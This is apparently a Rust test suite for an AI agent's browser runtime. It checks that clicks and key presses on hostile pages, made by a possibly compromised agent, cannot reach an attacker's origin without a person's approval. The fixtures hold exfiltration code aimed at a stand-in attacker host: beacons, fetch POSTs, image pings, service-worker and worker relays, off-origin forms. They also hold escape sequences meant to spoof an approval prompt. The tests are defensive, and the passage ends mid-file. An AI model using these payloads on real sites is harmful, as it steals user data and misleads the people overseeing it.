//! Issue 14: a write is judged by where it goes and by what the target is, not by its label. Each
//! hostile page sits on the trusted origin and aims at an attacker's origin (a second loopback
//! server whose request log proves what reached it). A compromised agent clicks what the page
//! wants; every click that would reach the attacker asks a person naming the attacker's origin,
//! and once the person says no, nothing arrives there.

use std::time::Duration;

use protocol::ErrorCode;
use runtime::{ApprovalDecision, RuntimeError};
use test_support::FixtureServer;

use crate::{click, env, env_with};

/// Serves `body` as JavaScript at `path`.
fn script(server: &FixtureServer, path: &str, body: String) {
    server.route(
        path,
        test_support::Route::Content {
            content_type: "text/javascript".into(),
            body: body.into_bytes(),
        },
    );
}

/// What reached the attacker (method and path) once the action's window and its tail are over.
async fn reached_after_the_window(attacker: &FixtureServer) -> Vec<String> {
    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
    attacker
        .requests()
        .iter()
        .map(|r| format!("{} {}", r.method, r.path))
        .collect()
}

/// Types `text` into the field named `name` once it is on the page.
async fn type_into(
    env: &crate::Env,
    name: &str,
    text: &str,
) -> Result<surface::ActOutcome, RuntimeError> {
    let o = crate::observe_until(&env.runtime, &env.session, name).await;
    let field = o
        .interactive_elements()
        .iter()
        .find(|e| e.name() == name)
        .unwrap()
        .element()
        .as_str()
        .to_owned();
    let typed = protocol::validate_extended_action(&serde_json::json!({"type": "type",
        "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "element", "ref": field},
        "text": text, "intent": "t"}))
    .unwrap();
    env.runtime
        .act(
            &env.session,
            None,
            &typed,
            &Default::default(),
            Duration::ZERO,
        )
        .await
}

/// `secret` is in neither the person's list of tabs nor the store's files.
fn nowhere_a_person_or_the_store_sees(env: &crate::Env, secret: &str) {
    let listed = serde_json::to_string(&env.runtime.tabs_for_person().unwrap()).unwrap();
    assert!(!listed.contains(secret), "the person's list: {listed}");
    for file in ["glovebox.sqlite", "glovebox.sqlite-wal"] {
        let bytes = std::fs::read(env.data_dir.join(file)).unwrap_or_default();
        assert!(
            !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "{file} holds {secret}"
        );
    }
}

/// The action on `name` of a fresh observation: refused for a person's approval, the pending
/// approval it made.
async fn asks(env: &crate::Env, name: &str) -> runtime::ApprovalRequest {
    let o = env
        .runtime
        .observe(&env.session, None, &Default::default())
        .await
        .unwrap();
    let action = click(&o, name);
    match env
        .runtime
        .act(
            &env.session,
            None,
            &action,
            &Default::default(),
            Duration::ZERO,
        )
        .await
    {
        Err(RuntimeError::NeedsApproval { approval_id, .. }) => {
            let request = env
                .runtime
                .pending_approvals()
                .into_iter()
                .find(|r| r.approval_id == approval_id)
                .expect("pending");
            // The person declines; the identical action is refused and sends nothing.
            env.runtime
                .resolve_approval(&approval_id, ApprovalDecision::Deny)
                .unwrap();
            let again = env
                .runtime
                .act(
                    &env.session,
                    None,
                    &action,
                    &Default::default(),
                    Duration::ZERO,
                )
                .await;
            assert!(
                matches!(&again, Err(e) if e.code() == ErrorCode::ApprovalDenied),
                "{name}: {again:?}"
            );
            request
        }
        other => panic!("{name}: expected a person's approval, got {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn writes_are_judged_by_the_origin_they_reach_and_declined_ones_send_nothing() {
    let env = env("hostile-reach", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    attacker.html(
        "/frame.html",
        "<!doctype html><button onclick=\"fetch('/vote', {method: 'POST'})\">Vote</button>",
    );
    env.server.html(
        "/hostile.html",
        format!(
            r#"<!doctype html><title>Hostile</title>
<form action="{evil}/steal" method=post><input name=q aria-label=Query value="my notes"><button>Search</button></form>
<a href="/next.html" ping="{evil}/ping">Next</a>
<a href="{evil}/collect?d=secret">Continue</a>
<iframe src="{evil}/frame.html" title=poll></iframe>"#
        ),
    );
    env.server.html(
        "/based.html",
        format!(r#"<!doctype html><base href="{evil}/"><a href="collect?d=1">Read more</a>"#),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/hostile.html"))
        .await
        .unwrap();
    crate::observe_until(&env.runtime, &env.session, "Vote").await;

    // An off-origin form action: the post would land on the attacker's origin.
    let search = asks(&env, "Search").await;
    assert_eq!(search.origin, evil, "{search:?}");
    assert!(search.reason.contains("form posts to"), "{search:?}");
    // A ping to the attacker's origin rides along with a same-origin link.
    let next = asks(&env, "Next").await;
    assert_eq!(next.origin, evil, "{next:?}");
    assert!(next.reason.contains("pings"), "{next:?}");
    // A link to the attacker's origin.
    assert_eq!(asks(&env, "Continue").await.origin, evil);
    // A click inside the attacker's iframe is asked for as the frame's origin, not the page's.
    let vote = asks(&env, "Vote").await;
    assert_eq!(vote.origin, evil, "{vote:?}");

    // `<base href>` points every relative link elsewhere: the outline and the approval say where.
    crate::open(&env.runtime, &env.session, &env.server.url("/based.html"))
        .await
        .unwrap();
    let o = crate::observe_until(&env.runtime, &env.session, "Read more").await;
    assert!(
        o.aria_snapshot().contains(&format!("-> {evil}/collect?d=")),
        "{}",
        o.aria_snapshot()
    );
    assert_eq!(asks(&env, "Read more").await.origin, evil);

    tokio::time::sleep(Duration::from_millis(300)).await;
    let reached: Vec<String> = attacker
        .requests()
        .iter()
        .map(|r| format!("{} {}", r.method, r.path))
        .filter(|r| !r.ends_with("/frame.html"))
        .collect();
    assert!(
        reached.is_empty(),
        "nothing reached the attacker: {reached:?}"
    );
}

/// High impact from structure, not words: a form that would send a filled password, a link that
/// saves a file, and a point click on a commit button all ask every time, on a trusted origin;
/// a person may make their own login form ordinary (`credential_origins`), which changes nothing
/// else.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn high_impact_is_known_from_structure_and_credential_origins_are_a_persons_choice() {
    let page = r#"<!doctype html><title>Admin</title>
<form method=post action="/login"><input aria-label=User value=ada><input type=password aria-label=Password value="s3cret-pw"><button>Continue</button></form>
<a href="/report.csv" download>Export</a>
<form method=post action="/orders"><button style="position:absolute;left:300px;top:300px;width:200px;height:40px">Refund all orders</button></form>"#;
    let env = env("hostile-structure", true).await;
    env.server.html("/admin.html", page);
    crate::open(&env.runtime, &env.session, &env.server.url("/admin.html"))
        .await
        .unwrap();
    let login = asks(&env, "Continue").await;
    assert_eq!(
        login.tier,
        policy::RiskTier::R3,
        "submitting a filled password: {login:?}"
    );
    assert_eq!(
        asks(&env, "Export").await.tier,
        policy::RiskTier::R3,
        "a download link"
    );
    // A password found by a locator is a secret field all the same.
    let o = env
        .runtime
        .observe(&env.session, None, &Default::default())
        .await
        .unwrap();
    let by_label = protocol::validate_extended_action(&serde_json::json!({
        "type": "type", "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "label", "text": "Password"}, "text": "guessed-pw-1", "intent": "sign in"
    }))
    .unwrap();
    let err = env
        .runtime
        .act(
            &env.session,
            None,
            &by_label,
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap_err();
    let RuntimeError::NeedsApproval { approval_id, .. } = err else {
        panic!("{err:?}")
    };
    let typed = env
        .runtime
        .pending_approvals()
        .into_iter()
        .find(|r| r.approval_id == approval_id)
        .unwrap();
    assert_eq!(
        typed.tier,
        policy::RiskTier::R3,
        "typing a password through a locator is a credential write: {typed:?}"
    );
    env.runtime
        .resolve_approval(&approval_id, ApprovalDecision::Deny)
        .unwrap();
    // A point on the refund button (from a screenshot) is classified as that button.
    let o = env
        .runtime
        .observe(
            &env.session,
            None,
            &browser::ObserveOptions {
                screenshot: Some(protocol::ImageMime::Png),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    let point = protocol::validate_extended_action(&serde_json::json!({
        "type": "click", "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "point", "x": 400, "y": 320}, "intent": "refund"
    }))
    .unwrap();
    let err = env
        .runtime
        .act(
            &env.session,
            None,
            &point,
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap_err();
    let RuntimeError::NeedsApproval { approval_id, .. } = err else {
        panic!("{err:?}")
    };
    let request = env
        .runtime
        .pending_approvals()
        .into_iter()
        .find(|r| r.approval_id == approval_id)
        .unwrap();
    assert_eq!(request.tier, policy::RiskTier::R3, "{request:?}");
    assert!(
        request.target.contains("Refund all orders"),
        "the approval names the element under the point: {request:?}"
    );
    env.runtime
        .resolve_approval(&approval_id, ApprovalDecision::Deny)
        .unwrap();
    assert!(env.server.writes().is_empty(), "nothing was posted");

    // The person's own login form: credential fields of this trusted origin are ordinary.
    let mine = env_with("hostile-credentials", true, |c| {
        let origin = c.trust.trusted_origins[0].clone();
        c.trust.credential_origins.push(origin);
    })
    .await;
    mine.server.html("/admin.html", page);
    crate::open(
        &mine.runtime,
        &mine.session,
        &mine.server.url("/admin.html"),
    )
    .await
    .unwrap();
    let o = mine
        .runtime
        .observe(&mine.session, None, &Default::default())
        .await
        .unwrap();
    mine.runtime
        .act(
            &mine.session,
            None,
            &click(&o, "Continue"),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .expect("no approval for the person's own login form");
    assert_eq!(mine.server.writes().len(), 1, "the login was posted");
    crate::open(
        &mine.runtime,
        &mine.session,
        &mine.server.url("/admin.html"),
    )
    .await
    .unwrap();
    let o = crate::observe_until(&mine.runtime, &mine.session, "Export").await;
    assert!(
        matches!(
            mine.runtime
                .act(
                    &mine.session,
                    None,
                    &click(&o, "Export"),
                    &Default::default(),
                    Duration::ZERO
                )
                .await,
            Err(RuntimeError::NeedsApproval { .. })
        ),
        "a download still asks"
    );
}

/// The network boundary: a same-origin button on a trusted page whose handler sends the page's
/// data elsewhere — a beacon, a `fetch` POST, an image with a query, a form post that the page's
/// own origin redirects (307 keeps the body), a request a moment later, and a service worker
/// that would proxy the page's own requests to the attacker — runs, and none of it reaches the
/// attacker: each request is blocked at the network layer and the receipt says so. The page's
/// own requests and static subresources from elsewhere still load.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_an_action_causes_reach_only_the_origins_it_was_judged_to_reach() {
    let env = env("hostile-network", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    attacker.route(
        "/pixel.png",
        test_support::Route::Content {
            content_type: "image/png".into(),
            body: vec![0x89, b'P', b'N', b'G'],
        },
    );
    env.server.route(
        "/bounce",
        test_support::Route::Redirect {
            status: 307,
            location: format!("{evil}/steal"),
        },
    );
    script(
        &env.server,
        "/sw.js",
        format!(
            "self.addEventListener('fetch', (e) => {{ if (e.request.url.includes('/api')) e.respondWith(fetch('{evil}/sw?d=secret')); }});"
        ),
    );
    env.server.html(
        "/leaky.html",
        format!(
            r#"<!doctype html><title>Leaky</title>
<img src="{evil}/pixel.png" alt=logo>
<button id=go>Save</button><form id=f method=post action="/bounce"><input type=hidden name=d value=secret></form>
<p id=out>idle</p>
<script>
navigator.serviceWorker && navigator.serviceWorker.register('/sw.js');
document.getElementById('go').onclick = () => {{
  navigator.sendBeacon('{evil}/beacon', 'secret');
  fetch('{evil}/fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}});
  new Image().src = '{evil}/img?d=secret';
  fetch('/api').then(r => r.text()).then(t => document.getElementById('out').textContent = 'own ' + t).catch(() => {{}});
  setTimeout(() => fetch('{evil}/later?d=secret').catch(() => {{}}), 400);
  setTimeout(() => document.getElementById('f').submit(), 600);
}};
</script>"#
        ),
    );
    env.server.html("/api", "ok");
    crate::open(&env.runtime, &env.session, &env.server.url("/leaky.html"))
        .await
        .unwrap();
    // Let the service worker install and take control of a reload.
    tokio::time::sleep(Duration::from_millis(500)).await;
    crate::open(&env.runtime, &env.session, &env.server.url("/leaky.html"))
        .await
        .unwrap();
    let o = crate::observe_until(&env.runtime, &env.session, "Save").await;
    let outcome = env
        .runtime
        .act(
            &env.session,
            None,
            &click(&o, "Save"),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap();
    let detail = outcome.receipt.detail().unwrap_or_default().to_owned();
    assert!(
        detail.contains("network boundary blocked"),
        "the receipt says what was blocked: {detail:?}"
    );
    assert!(!detail.contains("secret"), "redacted: {detail}");
    // The late requests fall inside the tail of the action's window.
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.iter().all(|r| r == "GET /pixel.png"),
        "only the page's static image reached the attacker's origin: {reached:?}"
    );
    assert!(
        reached.contains(&"GET /pixel.png".to_owned()),
        "static subresources still load: {reached:?}"
    );
    assert!(
        env.server.requests_to("/api").len() == 1,
        "the page's own request went to its own origin, around the service worker"
    );
    assert!(
        env.server.requests_to("/bounce").len() == 1,
        "the form post reached the page's origin, whose redirect was stopped"
    );
}

/// A cross-site iframe runs in its own process with its own debugger session: what a click in it
/// causes is judged like the page's own requests, on that session — an iframe already there and
/// one the click itself creates alike.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_of_a_cross_site_frame_are_judged_like_the_pages() {
    let env = env("hostile-oopif", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    let frame_origin = env.server.url_on_host("localhost", "");
    // The frame the click creates is of the host page's site again: inside the cross-site frame it
    // is another out-of-process frame, attached while the action's window is open.
    let late = env.server.url("/late.html");
    env.server.html(
        "/widget.html",
        format!(
            r#"<!doctype html><title>Widget</title><button id=send>Send</button><p id=out>idle</p>
<script>
document.getElementById('send').onclick = () => {{
  fetch('{evil}/oopif-fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}});
  navigator.sendBeacon('{evil}/oopif-beacon', 'secret');
  fetch('/own').then(r => r.text()).then(t => document.getElementById('out').textContent = 'own ' + t).catch(() => {{}});
  const f = document.createElement('iframe');
  f.src = '{late}';
  document.body.appendChild(f);
}};
</script>"#
        ),
    );
    env.server.html(
        "/late.html",
        format!("<!doctype html><p>late</p><script>fetch('{evil}/late-frame', {{method: 'POST', body: 'secret'}}).catch(() => {{}});</script>"),
    );
    env.server.html("/own", "ok");
    env.server
        .html("/host.html", format!(r#"<!doctype html><title>Host</title><p>Host page</p><iframe src="{frame_origin}/widget.html" title=widget></iframe>"#));
    crate::open(&env.runtime, &env.session, &env.server.url("/host.html"))
        .await
        .unwrap();
    let o = crate::observe_until(&env.runtime, &env.session, "Send").await;
    // The frame's origin is not trusted: a person approves the click there (and only there).
    let send = click(&o, "Send");
    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
        .runtime
        .act(
            &env.session,
            None,
            &send,
            &Default::default(),
            Duration::ZERO,
        )
        .await
    else {
        panic!("a click on the frame's origin asks")
    };
    env.runtime
        .resolve_approval(&approval_id, ApprovalDecision::ApproveOnce)
        .unwrap();
    let outcome = env
        .runtime
        .act(
            &env.session,
            None,
            &send,
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap();
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "nothing the frame sent reached the attacker's origin: {reached:?}"
    );
    let detail = outcome.receipt.detail().unwrap_or_default().to_owned();
    assert!(
        detail.contains("network boundary blocked") && detail.contains("oopif-fetch"),
        "the receipt says what was blocked: {detail:?}"
    );
    assert_eq!(
        env.server.requests_to("/own").len(),
        1,
        "the frame's own request reached its own origin"
    );
    assert_eq!(
        env.server.requests_to("/late.html").len(),
        1,
        "the frame the click created loaded"
    );
}

/// A dedicated worker the click starts: its requests are its page's, judged with them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_of_a_worker_an_action_starts_are_judged() {
    let env = env("hostile-worker", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    script(
        &env.server,
        "/worker.js",
        format!(
            "fetch('{evil}/worker-fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}}); fetch('/own').then(() => postMessage('own ok'));"
        ),
    );
    env.server.html("/own", "ok");
    env.server.html(
        "/workers.html",
        r#"<!doctype html><title>Workers</title><button id=go>Start</button><p id=out>idle</p>
<script>
document.getElementById('go').onclick = () => {
  const w = new Worker('/worker.js');
  w.onmessage = (e) => document.getElementById('out').textContent = e.data;
};
</script>"#,
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/workers.html"))
        .await
        .unwrap();
    let o = crate::observe_until(&env.runtime, &env.session, "Start").await;
    env.runtime
        .act(
            &env.session,
            None,
            &click(&o, "Start"),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap();
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "nothing the worker sent reached the attacker's origin: {reached:?}"
    );
    assert_eq!(
        env.server.requests_to("/own").len(),
        1,
        "the worker's own request reached the page's origin"
    );
}

/// A service worker the page already has runs on its own: what an action asks it to send (a
/// message to it) is judged too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_a_service_worker_sends_for_an_action_are_judged() {
    let env = env("hostile-sw", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    script(
        &env.server,
        "/relay-sw.js",
        format!(
            "self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('message', (e) => {{ fetch('{evil}/sw-relay', {{method: 'POST', body: 'secret'}}).catch(() => {{}}); fetch('/own').catch(() => {{}}); }});"
        ),
    );
    env.server.html("/own", "ok");
    env.server.html(
        "/relay.html",
        r#"<!doctype html><title>Relay</title><button id=go>Relay</button><p id=out>idle</p>
<script>
navigator.serviceWorker.register('/relay-sw.js').then(() => navigator.serviceWorker.ready).then(() => document.getElementById('out').textContent = 'ready');
document.getElementById('go').onclick = () => navigator.serviceWorker.ready.then((r) => r.active.postMessage('go'));
</script>"#,
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/relay.html"))
        .await
        .unwrap();
    let o = crate::observe_until(&env.runtime, &env.session, "Relay").await;
    for _ in 0..100 {
        let o = env
            .runtime
            .observe(&env.session, None, &Default::default())
            .await
            .unwrap();
        if o.aria_snapshot().contains("ready") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    env.runtime
        .act(
            &env.session,
            None,
            &click(&o, "Relay"),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap();
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "nothing the service worker sent reached the attacker's origin: {reached:?}"
    );
    assert_eq!(
        env.server.requests_to("/own").len(),
        1,
        "the worker's own request reached the page's origin"
    );
}

/// "Allow for this site" on a click that leads elsewhere grants the origin the person was shown —
/// the destination — and nothing else: the page's other links to a third origin still ask.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allowing_a_site_grants_exactly_the_origin_the_approval_named() {
    let env = env("hostile-grant", false).await;
    let [shop, third]: [FixtureServer; 2] = FixtureServer::origins(2)
        .await
        .unwrap()
        .try_into()
        .ok()
        .unwrap();
    shop.html(
        "/landing.html",
        "<!doctype html><title>Shop</title><p>Welcome to the shop</p>",
    );
    third.html("/x.html", "<!doctype html><p>third</p>");
    env.server.html(
        "/links.html",
        format!(
            r#"<!doctype html><title>Links</title><a href="{}/landing.html">Visit the shop</a> <a href="{}/x.html">Elsewhere</a>"#,
            shop.origin(),
            third.origin()
        ),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/links.html"))
        .await
        .unwrap();
    // The page's own origin is not trusted here: approve it for the task first.
    let o = crate::observe_until(&env.runtime, &env.session, "Visit the shop").await;
    let visit = click(&o, "Visit the shop");
    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
        .runtime
        .act(
            &env.session,
            None,
            &visit,
            &Default::default(),
            Duration::ZERO,
        )
        .await
    else {
        panic!("the click asks")
    };
    let request = env
        .runtime
        .pending_approvals()
        .into_iter()
        .find(|r| r.approval_id == approval_id)
        .unwrap();
    assert_eq!(
        request.origin,
        shop.origin(),
        "the approval names the destination: {request:?}"
    );
    env.runtime
        .resolve_approval(&approval_id, ApprovalDecision::ApproveForTask)
        .unwrap();
    // The shop is granted now; the page's own origin (not trusted here) is the next decision,
    // asked on its own: the grant covered the shop only.
    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
        .runtime
        .act(
            &env.session,
            None,
            &visit,
            &Default::default(),
            Duration::ZERO,
        )
        .await
    else {
        panic!("the page's own origin is asked next")
    };
    let next = env
        .runtime
        .pending_approvals()
        .into_iter()
        .find(|r| r.approval_id == approval_id)
        .unwrap();
    assert_eq!(next.origin, env.server.origin(), "{next:?}");
    env.runtime
        .resolve_approval(&approval_id, ApprovalDecision::ApproveOnce)
        .unwrap();
    let elsewhere = click(&o, "Elsewhere");
    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
        .runtime
        .act(
            &env.session,
            None,
            &elsewhere,
            &Default::default(),
            Duration::ZERO,
        )
        .await
    else {
        panic!("a third origin asks")
    };
    let third_ask = env
        .runtime
        .pending_approvals()
        .into_iter()
        .find(|r| r.approval_id == approval_id)
        .unwrap();
    assert_eq!(
        third_ask.origin,
        third.origin(),
        "the shop's grant does not reach a third origin: {third_ask:?}"
    );
    env.runtime
        .resolve_approval(&approval_id, ApprovalDecision::Deny)
        .unwrap();
    // Both decisions made, the first click goes to the shop.
    let outcome = env
        .runtime
        .act(
            &env.session,
            None,
            &visit,
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .expect("approved for both origins");
    let landed = outcome.observation.expect("the shop's page");
    assert!(
        landed.url().starts_with(&shop.origin())
            && landed.aria_snapshot().contains("Welcome to the shop"),
        "{}",
        landed.url()
    );
    assert!(
        third.requests().is_empty(),
        "nothing reached the third origin"
    );
}

/// Issue 29: every way to press Enter in a form is judged like clicking its submitter. `press
/// Return`, a line break in typed text and `key_down Enter` submitted a form to another origin
/// with no approval, where `press Enter` asked. Each now asks a person naming the form's
/// destination, and once they decline nothing reaches it; an Enter `key_down` with no target
/// (the key would go wherever the focus is) is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_way_to_press_enter_in_a_form_is_judged_like_its_submit() {
    let env = env("hostile-enter", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    env.server.html(
        "/login.html",
        format!(
            r#"<!doctype html><title>Sign in</title>
<form action="{evil}/steal" method=post><input name=q aria-label=Query value="my notes"><button>Go</button></form>"#
        ),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/login.html"))
        .await
        .unwrap();
    crate::observe_until(&env.runtime, &env.session, "Query").await;
    // (way, action type, the field that carries the key or text, its value)
    let ways = [
        ("press Return", "press", "key", "Return"),
        ("press Shift+enter", "press", "key", "Shift+enter"),
        ("type a line break", "type", "text", "ada\n"),
        ("type a carriage return", "type", "text", "ada\r"),
        ("key_down Enter", "key_down", "key", "Enter"),
    ];
    for (way, kind, field_name, value) in ways {
        let o = env
            .runtime
            .observe(&env.session, None, &Default::default())
            .await
            .unwrap();
        let field = o
            .interactive_elements()
            .iter()
            .find(|e| e.name() == "Query")
            .unwrap()
            .element()
            .as_str()
            .to_owned();
        let mut json = serde_json::json!({"type": kind, "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "element", "ref": field}, "intent": "t"});
        json[field_name] = serde_json::json!(value);
        let action = protocol::validate_extended_action(&json).unwrap();
        let outcome = env
            .runtime
            .act(
                &env.session,
                None,
                &action,
                &Default::default(),
                Duration::ZERO,
            )
            .await;
        let Err(RuntimeError::NeedsApproval { approval_id, .. }) = outcome else {
            panic!("{way}: a form submit to another origin needs a person, got {outcome:?}")
        };
        let request = env
            .runtime
            .pending_approvals()
            .into_iter()
            .find(|r| r.approval_id == approval_id)
            .unwrap();
        assert_eq!(request.origin, evil, "{way}: {request:?}");
        env.runtime
            .resolve_approval(&approval_id, ApprovalDecision::Deny)
            .unwrap();
        let again = env
            .runtime
            .act(
                &env.session,
                None,
                &action,
                &Default::default(),
                Duration::ZERO,
            )
            .await;
        assert!(
            matches!(&again, Err(e) if e.code() == ErrorCode::ApprovalDenied),
            "{way}: {again:?}"
        );
    }
    // Enter sent to whatever has focus: where it goes cannot be judged, so it is not sent.
    let o = env
        .runtime
        .observe(&env.session, None, &Default::default())
        .await
        .unwrap();
    let blind = protocol::validate_extended_action(&serde_json::json!({"type": "key_down", "expected_frame_id": o.frame_id().as_str(), "key": "Enter", "intent": "t"})).unwrap();
    let refused = env
        .runtime
        .act(
            &env.session,
            None,
            &blind,
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap_err();
    assert_eq!(refused.code(), ErrorCode::InvalidAction, "{refused}");
    let reached = reached_after_the_window(&attacker).await;
    assert!(
        reached.is_empty(),
        "nothing reached the attacker: {reached:?}"
    );
}

/// Issue 29: an approval request carried a page-given name raw, so escape sequences in it could
/// rewrite a person's terminal prompt line. Page-derived text in an approval has control
/// characters, escape sequences and bidirectional overrides removed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_approval_shows_page_text_without_escape_sequences() {
    let env = env("hostile-escapes", true).await;
    let attacker = FixtureServer::start().await.unwrap();
    let evil = attacker.origin();
    env.server.html(
        "/escape.html",
        format!(
            r#"<!doctype html><title>Escape</title><a id=l href="{evil}/x">Read</a>
<script>document.getElementById('l').setAttribute('aria-label', 'Read\u001b[2K\r\u009b2KApproved already\u202e\u0007 ok');</script>"#
        ),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/escape.html"))
        .await
        .unwrap();
    let o = env
        .runtime
        .observe(&env.session, None, &Default::default())
        .await
        .unwrap();
    let name = o
        .interactive_elements()
        .iter()
        .find(|e| e.name().starts_with("Read"))
        .unwrap_or_else(|| panic!("{}", o.aria_snapshot()))
        .name()
        .to_owned();
    let request = asks(&env, &name).await;
    for text in [&request.target, &request.reason] {
        assert!(
            !text.chars().any(|c| c.is_control()
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c)),
            "page text reaches a person without control characters: {text:?}"
        );
        assert!(
            !text.contains("[2K"),
            "no escape sequence survives: {text:?}"
        );
    }
    assert!(
        request.target.contains("Approved already"),
        "the words stay: {:?}",
        request.target
    );
}

/// Issue 29: opening Glovebox's own server or the browser's DevTools endpoint asked a person
/// (who might say yes) instead of being refused. Both are refused outright, by `tab_open` and by
/// a link to them alike, with the person never asked. (A browser Glovebox launches is driven
/// over its pipe and has no such endpoint; one launched with a port, as `glovebox launch`
/// does, or a remote one has.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn glovebox_and_the_browsers_debugging_endpoint_are_never_destinations() {
    use surface::SurfaceAdapter as _;
    let piped = env("hostile-own-endpoints-piped", false).await;
    assert!(
        piped.browser.control_endpoints().is_empty(),
        "a browser driven over its pipe has no DevTools endpoint"
    );
    drop(piped);
    let mut options = browser::LaunchOptions::new(crate::data_dir("hostile-own-endpoints"));
    options.debugging_port = true;
    let env = crate::env_on(
        "hostile-own-endpoints",
        false,
        Some(browser::BrowserSource::Launch(options)),
        |_| {},
    )
    .await;
    let devtools = env.browser.control_endpoints();
    assert!(
        !devtools.is_empty(),
        "a browser launched with a port has a DevTools endpoint"
    );
    let own = FixtureServer::start().await.unwrap();
    env.runtime
        .listening_at(std::net::SocketAddr::from(([127, 0, 0, 1], own.port())));
    let own_by_name = own.origin().replace("127.0.0.1", "localhost");
    for url in [
        devtools[0].clone(),
        format!("{}/json/version", devtools[0]),
        own.url("/"),
        format!("{own_by_name}/api/approvals"),
    ] {
        let refused = env
            .runtime
            .open_tab(&env.session, &url, Duration::ZERO)
            .await
            .unwrap_err();
        assert_eq!(refused.code(), ErrorCode::OriginDenied, "{url}: {refused}");
        assert!(
            env.runtime.pending_approvals().is_empty(),
            "{url}: nobody is asked"
        );
    }
    // A link to it on a page is refused the same way.
    env.server.html(
        "/link.html",
        format!(
            r#"<!doctype html><a href="{}/json/list">Debug</a>"#,
            devtools[0]
        ),
    );
    crate::open(&env.runtime, &env.session, &env.server.url("/link.html"))
        .await
        .unwrap();
    let o = crate::observe_until(&env.runtime, &env.session, "Debug").await;
    let refused = env
        .runtime
        .act(
            &env.session,
            None,
            &click(&o, "Debug"),
            &Default::default(),
            Duration::ZERO,
        )
        .await
        .unwrap_err();
    assert_eq!(refused.code(), ErrorCode::OriginDenied, "{refused}");
}

/// Issue 29: a tab titled with a credential (`… token=…`) put it in `user_tabs`, in the agent's
/// own tab's `status` and, raw, in SQLite. A title is redacted where Glovebox records it, so it
/// is redacted everywhere it goes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_credential_in_a_tab_title_reaches_no_list_and_no_record() {
    let env = env("hostile-title", true).await;
    let secret = "tk9a8b7c6d5e4f3g2h1secret";
    env.server.html(
        "/titled.html",
        format!("<!doctype html><title>Dashboard token={secret}</title><p>hi</p>"),
    );
    let url = env.server.url("/titled.html");
    let theirs = env.runtime.register_user_tab(&url).await.unwrap();
    let mine = crate::open(&env.runtime, &env.session, &url).await.unwrap();
    let titled = |t: &Option<String>| t.as_deref().is_some_and(|t| t.starts_with("Dashboard"));
    let mut seen = (None, None);
    for _ in 0..100 {
        let user = env
            .runtime
            .user_tabs()
            .unwrap()
            .into_iter()
            .find(|t| t.tab == theirs)
            .and_then(|t| t.title);
        let status = env.runtime.status(&env.session).unwrap();
        let own = status
            .tabs
            .into_iter()
            .find(|t| t.surface == Some(mine))
            .and_then(|t| t.title);
        seen = (user, own);
        if titled(&seen.0) && titled(&seen.1) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(
        titled(&seen.0) && titled(&seen.1),
        "both tabs got their titles: {seen:?}"
    );
    for title in [seen.0.unwrap(), seen.1.unwrap()] {
        assert!(!title.contains(secret), "redacted: {title}");
    }
    nowhere_a_person_or_the_store_sees(&env, secret);
}

/// Issue 29: a link written `HTTP://…` (upper case) was not recognised as leading elsewhere,
/// so following it to the attacker asked nobody. The scheme is read in any case.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
